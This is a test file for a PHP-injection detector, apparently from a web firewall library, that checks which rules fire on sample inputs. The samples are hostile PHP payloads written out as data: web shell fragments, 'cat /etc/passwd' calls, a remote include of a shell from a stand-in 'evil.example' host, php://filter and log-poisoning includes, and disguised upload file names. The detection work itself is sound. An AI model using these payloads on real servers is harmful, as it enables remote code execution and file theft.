import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import { phpDetector } from './php.ts';

function rules(value: string, location = 'query.q'): string[] {
  return phpDetector.detect(viewsOf(value), 'query', location).map((h) => h.rule);
}

describe('php detector', () => {
  test('finds open tags, execution calls, chr() chains and serialized objects', () => {
    assert.ok(rules('<?php system($_GET["c"]); ?>').includes('php.open-tag'));
    assert.ok(rules('<?= `id` ?>').includes('php.open-tag'));
    assert.ok(rules('1;system("cat /etc/passwd");').includes('php.function-call'));
    assert.ok(rules('eval(base64_decode("cGhwaW5mbygpOw=="))').includes('php.function-call'));
    assert.ok(rules('phpinfo();').includes('php.function-call'));
    assert.ok(rules("assert ('x')").includes('php.function-call'));
    assert.ok(rules('$_SERVER["HTTP_USER_AGENT"]').includes('php.superglobal'));
    assert.ok(rules('chr(115).chr(121).chr(115)').includes('php.chr-chain'));
    assert.ok(rules('O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}').includes('php.serialized-object'));
  });

  test('finds a PHP script uploaded under any extension trick', () => {
    for (const name of ['shell.php', 'x.PHTML', 'a.php.jpg', 'b.php5', 'c.php%00.png', '.htaccess'])
      assert.ok(rules(name, 'body.file@filename').includes('php.script-upload'), name);
  });

  test("include and require count with what PHP would include, not with Node's module names", () => {
    for (const value of [
      "include('http://evil.example/shell.txt')",
      'require_once($_GET["page"])',
      "include('php://filter/convert.base64-encode/resource=index.php')",
      "require('../../etc/passwd')",
      "include('/var/log/apache2/access.log')",
      "include('data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+')",
      "include('config.inc')",
    ])
      assert.ok(rules(value).includes('php.function-call'), value);
    for (const value of [
      "const fastify = require('fastify')({ logger: true })",
      "const { EventEmitter } = require('node:events')",
      "console.log(require('./package.json').version)",
      "const { trace } = require('@opentelemetry/api')",
    ])
      assert.deepEqual(rules(value), [], value);
  });

  test('leaves look-alikes alone', () => {
    for (const value of [
      'The system (and its parts) works',
      'we exec the job nightly',
      'phpinfo is a function',
      'call me at 10:30',
      'price: $5 (approx)',
      'my.exec("x")',
      'Use <?xml version="1.0"?> at the top',
      'a:hover { color: red }',
      'report.pdf',
    ])
      assert.deepEqual(rules(value), [], value);
    assert.deepEqual(rules('index.phpdoc.txt', 'body.f@filename'), []);
    assert.deepEqual(rules('photo.jpg', 'body.f@filename'), []);
  });

  test('short open tags, calls in complex interpolation, and the version probe', () => {
    const rules = (value: string) =>
      phpDetector.detect(viewsOf(value), 'query', 'query.q').map((h) => `${h.rule}:${h.score}`);
    assert.equal(rules('<? system($_GET[0]); ?>').includes('php.open-tag:5'), true);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: PHP interpolation as the attacker writes it
    for (const value of ['x${@print(7*7)}', '{${phpinfo()}}', ';phpversion();'])
      assert.equal(rules(value).includes('php.function-call:5'), true, value);
    // An XML declaration, a JavaScript template literal and a static method are not PHP calls.
    assert.deepEqual(rules('<?xml version="1.0"?>'), []);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a JavaScript template literal as text
    assert.deepEqual(rules('`${format(total)}`'), []);
    assert.deepEqual(rules('Db::exec(1)'), []);
  });
});
